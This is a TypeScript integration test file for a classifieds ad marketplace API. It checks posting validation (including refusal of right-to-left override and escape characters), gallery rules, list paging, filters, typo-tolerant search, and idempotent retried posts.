  it('refuses a title or description that would read otherwise than it is stored', async () => {
    // A right-to-left override shows '00005' as '50000' beside the ad's real price.
    const posting = await kit.api('/api/posts/', {
      token: ravi.token,
      form: adForm({ ...dzire, itemName: 'Dzire price \u202E00005\u202C' }, [photo1()]),
    });
    expect({ status: posting.status, msg: posting.body.msg }).toEqual({
      status: 400,
      msg: MESSAGES.controlCharacter,
    });
    const editing = await kit.api('/api/posts/edit', {
      token: ravi.token,
      json: { ad_id: posted._id, description: 'Red \u001B[31m paint' },
    });
    expect({ status: editing.status, msg: editing.body.msg }).toEqual({
      status: 400,
      msg: MESSAGES.controlCharacter,
    });
  });

  it('keeps an ad’s last photo or video: it is never left without one', async () => {
    const remove = (name: string) =>
      kit.api('/api/gallery/remove', { token: ravi.token, json: { item_id: posted._id, name } });
    const listed = await kit.api(`/api/gallery/media?item_id=${posted._id}`);
    const [last, ...others] = listed.body.data as AdDetailView['gallery'];
    for (const item of others) expect((await remove(item.name)).status).toBe(200);
    const refused = await remove(last!.name);
    expect(refused).toMatchObject({ status: 409, body: { msg: AD_MESSAGES.lastMedia } });
    const kept = await kit.api(`/api/gallery/media?item_id=${posted._id}`);
    expect((kept.body.data as AdDetailView['gallery']).map((item) => item.name)).toEqual([
      last!.name,
    ]);
  });
});

// ---------------------------------------------------------------------------------------------
// Lists, filters and search, over ads appended straight to the log.

const base: AdDetails = {
  itemName: 'Teak sofa set',
  categoryname: 'Furniture',
  subcategory: 'Sofa & Dining',
  type: null,
  price: 2_500_000,
  currencycode: 'INR',
  description: 'Five seater.',
  phone: '9123456780',
  displayPhone: true,
  houseno: '1',
  street: 'Beach Road',
  city: 'Kochi',
  neighbourHood: 'Fort Kochi',
  district: 'Ernakulam',
  pincode: '682001',
  state: 'Kerala',
  country: 'India',
  make: null,
  model: null,
  mileage: null,
  yearOfManufacture: null,
  ownerOrDealer: null,
  newOrused: null,
};

async function appendAd(details: Partial<AdDetails>, minutesAgo: number): Promise<string> {
  const adId = randomUUID();
  const postedAt = minutesFromNow(-minutesAgo);
  const item = {
    galleryType: 'photos' as const,
    name: `${adId}.jpg`,
    thumbnail: `${adId}.thumb.jpg`,
  };
  const events: AdEvent[] = [
    {
      type: 'AdPosted',
      data: {
        ...base,
        ...details,
        adId,
        uid: `seeded-${adId}`,
        postedBy: 'u-seed',
        postedByUsername: 'seed',
        postedAt,
      },
    },
    { type: 'MediaAdded', data: { adId, ...item, addedAt: postedAt } },
  ];
  const { lastPosition } = await kit.store.append(
    adStream(adId),
    events.map((event) => ({ ...event, metadata: { eventId: randomUUID(), now: postedAt } })),
    'no-stream',
  );
  await kit.caughtUp(['ads'], lastPosition);
  return adId;
}

describe('the ad list', () => {
  const sofas: string[] = [];
  let tractor: string;
  let boat: string;

  beforeAll(async () => {
    // Posted over the past days, oldest first.
    for (let i = 0; i < 22; i++) sofas.push(await appendAd({ itemName: `Sofa ${i}` }, 10_000 - i));
    tractor = await appendAd(
      {
        itemName: 'Mahindra 575 DI',
        categoryname: 'Automobiles',
        subcategory: 'Tractors',
        price: 55_000_000,
        make: 'Mahindra',
        model: '575 DI',
        mileage: 1_200,
        yearOfManufacture: 2016,
        ownerOrDealer: 'Dealer',
        newOrused: 'Used',
        state: 'Punjab',
        district: 'Ludhiana',
        neighbourHood: 'Model Town',
        city: 'Ludhiana',
      },
      5_000,
    );
    boat = await appendAd(
      {
        itemName: 'Houseboat',
        categoryname: 'Ships Boats',
        subcategory: 'Houseboats',
        make: 'Kerala Boats',
        model: 'Kettuvallam',
        mileage: 0,
        yearOfManufacture: 2005,
        ownerOrDealer: 'Owner',
        newOrused: 'Used',
        country: 'Sri Lanka',
        state: 'Western',
        district: 'Colombo',
      },
      4_000,
    );
  }, 120_000);

  const list = async (query: string, token: string | null = ravi.token) => {
    const path = token ? '/api/posts/filter' : '/api/globalAds';
    const { status, body } = await kit.api(`${path}?${query}`, token ? { token } : {});
    expect(status).toBe(200);
    return body.data as AdList;
  };
  const idsOf = (page: AdList) => page.ads.map((ad) => ad._id);

  it('offers as neighbourhoods the district’s list and every one its ads name', async () => {
    const namesIn = async (state: string, district: string) => {
      const query = new URLSearchParams({ country: 'India', state, district });
      const { status, body } = await kit.api(`/api/posts/neighbourhoods?${query}`);
      expect(status).toBe(200);
      return (body.data as { name: string }[]).map((place) => place.name);
    };
    // The tractor's, typed by its owner; Ludhiana has no list of its own.
    expect(await namesIn('Punjab', 'Ludhiana')).toContain('Model Town');
    expect(await namesIn('Delhi', 'Central')).toContain('Karol Bagh');
    const ludhiana = await namesIn('Punjab', 'Ludhiana');
    expect(ludhiana).toEqual([...new Set(ludhiana)].sort((a, b) => a.localeCompare(b)));
    expect((await kit.api('/api/posts/neighbourhoods?country=India&state=Punjab')).status).toBe(
      400,
    );
  });

  it('takes a filter’s names in any case, as an address typed by hand may give them', async () => {
    const exact =
      'category=Automobiles&subcategory=Tractors&country=India&state=Punjab&district=Ludhiana';
    expect(idsOf(await list(exact, null))).toEqual([tractor]);
    const typed =
      'category=automobiles&subcategory=TRACTORS&country=india&state=punjab&district=ludhiana';
    expect(idsOf(await list(typed, null))).toEqual([tractor]);
    // Ludhiana has no list of neighbourhoods: its ads' own names are taken as written.
    expect(idsOf(await list(`${typed}&neighbourHood=Model%20Town`))).toEqual([tractor]);
    const search = await kit.api(`/api/posts/searchAds?search=mahindra&${typed}`);
    expect(idsOf(search.body.data as AdList)).toEqual([tractor]);
    // A name the lists do not have finds nothing, as before.
    expect(idsOf(await list('category=Automobiles&state=Narnia', null))).toEqual([]);
  });

  it('needs a token, while the guests’ list does not', async () => {
    expect((await kit.api('/api/posts/filter')).status).toBe(401);
    const guest = await list('', null);
    expect(guest.ads.length).toBe(20);
    // A guest sees the phone only where the ad shows it.
    expect(guest.ads.find((ad) => ad._id === posted._id)?.phone).toBe('');
    expect(guest.ads.find((ad) => ad._id === boat)?.phone).toBe('9123456780');
  });

  it('pages 20 ads, newest first, by page or offset', async () => {
    const first = await list('category=Furniture');
    expect(first).toMatchObject({ page: 1, pageSize: 20 });
    expect(idsOf(first)).toEqual([...sofas].reverse().slice(0, 20));
    const second = await list('category=Furniture&page=2');
    expect(idsOf(second)).toEqual([sofas[1], sofas[0]]);
    expect(idsOf(await list('category=Furniture&page=5&offset=21'))).toEqual([sofas[0]]);
    // Load More's read: the next 20 and the cards it reads again, no more than that.
    expect(idsOf(await list('category=Furniture&page=2&offset=15&limit=25'))).toEqual(
      [...sofas].reverse().slice(15),
    );
    expect(idsOf(await list('category=Furniture&offset=18&limit=3'))).toEqual(
      [...sofas].reverse().slice(18, 21),
    );
    for (const limit of [0, LIMITS.adPageSize + LIMITS.adListReadAgain + 1]) {
      const refused = await kit.api(`/api/posts/filter?category=Furniture&limit=${limit}`, {
        token: ravi.token,
      });
      expect({ limit, status: refused.status }).toEqual({ limit, status: 400 });
    }
    const empty = await kit.api('/api/posts/filter?category=Furniture&page=3', {
      token: ravi.token,
    });
    expect(empty.body).toMatchObject({ msg: MESSAGES.noAdsAvailable, data: { ads: [] } });
  });

  it('filters by each of section 7’s filters', async () => {
    expect(idsOf(await list('category=Automobiles&subcategory=Tractors'))).toEqual([tractor]);
    expect(idsOf(await list('country=Sri%20Lanka'))).toEqual([boat]);
    expect(
      idsOf(await list('country=India&state=Punjab&district=Ludhiana&neighbourHood=Model%20Town')),
    ).toEqual([tractor]);
    expect(idsOf(await list('category=Automobiles&priceFrom=500000&priceTo=600000'))).toEqual([
      tractor,
    ]);
    const tractors = 'category=Automobiles&subcategory=Tractors';
    expect(idsOf(await list(`${tractors}&make=Mahindra&model=575%20DI`))).toEqual([tractor]);
    expect(
      idsOf(await list(`${tractors}&yearOfManufactureFrom=2015&yearOfManufactureTo=2017`)),
    ).toEqual([tractor]);
    expect(idsOf(await list(`${tractors}&yearOfManufactureFrom=2017`))).toEqual([]);
    expect(idsOf(await list(`${tractors}&mileageFrom=1000&mileageTo=2000`))).toEqual([tractor]);
    expect(idsOf(await list(`${tractors}&ownerOrDealer=Owner`))).toEqual([]);
    expect(idsOf(await list('category=Ships%20Boats&ownerOrDealer=Owner'))).toEqual([boat]);
  });

  it('filters Sports ads by their type, Team or Player, and ignores the type elsewhere', async () => {
    const sport = { categoryname: 'Sports', subcategory: 'Cricket', state: 'Goa', city: 'Panaji' };
    const team = await appendAd({ ...sport, itemName: 'Club XI', type: 'Team' }, 3_000);
    const player = await appendAd({ ...sport, itemName: 'Opening bat', type: 'Player' }, 2_999);
    const goa = 'category=Sports&subcategory=Cricket&state=Goa';
    expect(idsOf(await list(goa))).toEqual([player, team]);
    expect(idsOf(await list(`${goa}&type=Team`))).toEqual([team]);
    expect(idsOf(await list(`${goa}&type=player`, null))).toEqual([player]);
    // Left over from Sports, it never empties another category's list.
    expect(idsOf(await list('category=Automobiles&subcategory=Tractors&type=Team'))).toEqual([
      tractor,
    ]);
  });

  it('refuses a filter that is not a number where one is needed', async () => {
    const { status, body } = await kit.api('/api/globalAds?priceFrom=cheap');
    expect(status).toBe(400);
    expect(body.errors?.[0]).toEqual({ field: 'priceFrom', message: AD_MESSAGES.invalidPrice });
  });

  it('refuses a page or offset past the furthest any list is asked for', async () => {
    const furthest = LIMITS.pageNumberMax;
    expect((await kit.api(`/api/globalAds?page=${furthest}`)).status).toBe(200);
    for (const query of [
      `page=${furthest + 1}`,
      'page=9007199254740991',
      `offset=${furthest * LIMITS.adPageSize + 1}`,
      // Read as page 31 before: a page is written in decimal digits.
      'page=0x1F',
    ]) {
      expect((await kit.api(`/api/globalAds?${query}`)).status, query).toBe(400);
      expect((await kit.api(`/api/posts/myBids?${query}`, { token: ravi.token })).status).toBe(400);
    }
  });

  it('takes bounds larger than any price, mileage or year, or with decimals, finding nothing', async () => {
    const huge = '99999999999999999999999';
    for (const filter of ['priceFrom', 'mileageFrom', 'yearOfManufactureFrom']) {
      const decimal = await kit.api(`/api/globalAds?category=Automobiles&${filter}=10.5`);
      expect({ filter, status: decimal.status }).toEqual({ filter, status: 200 });
      for (const token of [undefined, ravi.token]) {
        const path = token ? '/api/posts/filter' : '/api/globalAds';
        const { status, body } = await kit.api(`${path}?category=Automobiles&${filter}=${huge}`, {
          ...(token ? { token } : {}),
        });
        expect({ filter, status }).toEqual({ filter, status: 200 });
        expect((body.data as AdList).ads).toEqual([]);
      }
    }
  });

  it('lists My Ads, newest first', async () => {
    const mine = await list('', ravi.token);
    expect(mine.ads.length).toBeGreaterThan(0);
    const { body } = await kit.api('/api/posts/myPosts', { token: ravi.token });
    const own = (body.data as AdList).ads;
    expect(own.every((ad) => ad.postedBy === ravi.userId)).toBe(true);
    expect(own.at(-1)?._id).toBe(posted._id);
    // Each says what its bids came to (none here: the projection's test checks a bid-upon ad).
    expect((own.at(-1) as unknown as { ownerBids: unknown }).ownerBids).toEqual({
      bids: 0,
      highest: null,
    });
    expect((await kit.api('/api/posts/myPosts')).status).toBe(401);
  });

  it('lists a seller’s ads for their profile, newest first, to anyone', async () => {
    const { body } = await kit.api(`/api/posts/userPosts?userId=${ravi.userId}`);
    const theirs = (body.data as AdList).ads;
    expect(theirs.length).toBeGreaterThan(0);
    expect(theirs.every((ad) => ad.postedBy === ravi.userId)).toBe(true);
    expect(theirs.at(-1)?._id).toBe(posted._id);
    // Not the owner's My Ads: no word of the bids.
    expect(theirs[0]).not.toHaveProperty('ownerBids');
    expect(
      ((await kit.api('/api/posts/userPosts?userId=nobody-at-all')).body.data as AdList).ads,
    ).toEqual([]);
    const missing = await kit.api('/api/posts/userPosts');
    expect(missing.status).toBe(400);
    expect(missing.body.msg).toBe(MESSAGES.noUsersFound);
  });

  it('finds the posted Swift Dzire when misspelt, for guests too', async () => {
    const { status, body } = await kit.api('/api/posts/searchAds?search=swfit%20dezire');
    expect(status).toBe(200);
    expect((body.data as AdList).ads[0]?._id).toBe(posted._id);
    const tractors = await kit.api('/api/posts/searchAds?search=mahindra%20tractr&page=1');
    expect((tractors.body.data as AdList).ads.map((ad) => ad._id)).toEqual([tractor]);
  });

  it('narrows a search by the list’s filters, and refuses one as the list does', async () => {
    const found = async (query: string) => {
      const { status, body } = await kit.api(`/api/posts/searchAds?search=swfit%20dezire&${query}`);
      expect(status).toBe(200);
      return (body.data as AdList).ads.map((ad) => ad._id);
    };
    // Its poster's address is in Karnataka (the kit's member).
    expect(await found('state=Karnataka')).toContain(posted._id);
    expect(await found('state=Goa')).not.toContain(posted._id);
    expect(await found('category=Automobiles&priceTo=1')).toEqual([]);
    const { status, body } = await kit.api('/api/posts/searchAds?search=dzire&priceFrom=cheap');
    expect(status).toBe(400);
    expect(body.errors?.[0]).toEqual({ field: 'priceFrom', message: AD_MESSAGES.invalidPrice });
  });
});

describe('a retried post (Idempotency-Key)', () => {
  const cricketKit = {
    itemName: 'Cricket kit bag',
    categoryname: 'Sports',
    subcategory: 'Cricket',
    price: '2500',
    description: 'Barely used, with pads and gloves.',
    type: 'Team',
  };
  const post = (key: string, stagedIds: string[] = []) =>
    kit.api('/api/posts/', {
      token: meena.token,
      form: adForm(cricketKit, [photo1()], stagedIds),
      headers: { 'Idempotency-Key': key },
    });
  const kitsOfMeena = async () => {
    const { body } = await kit.api('/api/posts/myPosts', { token: meena.token });
    return (body.data as AdList).ads
      .filter((ad) => ad.itemName === cricketKit.itemName)
      .map((ad) => ad._id)
      .sort();
  };

  it('creates one ad for one key and answers the retry the same; another key, another ad', async () => {
    const stageForm = new FormData();
    stageForm.append('file', new Blob([png], { type: 'image/png' }), 'bag.png');
    const staged = await kit.api('/api/gallery/stage', { token: meena.token, form: stageForm });
    const { stagedId } = staged.body.data as Record<string, string>;
    const key = randomUUID();

    const first = await post(key, [stagedId!]);
    expect(first).toMatchObject({ status: 200, body: { msg: MESSAGES.adPosted } });
    const ad = first.body.data as AdDetailView;
    expect(ad.gallery).toHaveLength(2);
    const files = await mediaFiles();

    // The retry (its staged file already used by the ad) gets the same answer and writes nothing.
    const retry = await post(key, [stagedId!]);
    expect([retry.status, retry.body]).toEqual([first.status, first.body]);
    expect(await mediaFiles()).toEqual(files);
    expect(await kitsOfMeena()).toEqual([ad._id]);

    const other = await post(randomUUID());
    expect(other.status).toBe(200);
    const otherId = (other.body.data as AdDetailView)._id;
    expect(otherId).not.toBe(ad._id);
    expect(await kitsOfMeena()).toEqual([ad._id, otherId].sort());
  });

  it('posts once when two attempts with the same key race, keeping only that ad’s files', async () => {
    const before = await kitsOfMeena();
    const filesBefore = await mediaFiles();
    const key = randomUUID();
    const [one, two] = await Promise.all([post(key), post(key)]);
    expect(one.status).toBe(200);
    expect(two.status).toBe(200);
    const ad = one.body.data as AdDetailView;
    expect((two.body.data as AdDetailView)._id).toBe(ad._id);
    expect(await kitsOfMeena()).toEqual([...before, ad._id].sort());
    // The losing attempt's photo and thumbnail are gone: only the ad's own files were added.
    const baseName = (path: string) => path.slice(path.lastIndexOf('/') + 1);
    const added = (await mediaFiles()).filter((path) => !filesBefore.includes(path));
    expect(added.map(baseName).sort()).toEqual(
      storedFilesOf({ ...ad.gallery[0]!, name: baseName(ad.gallery[0]!.url) })
        .map(baseName)
        .sort(),
    );
  });
});
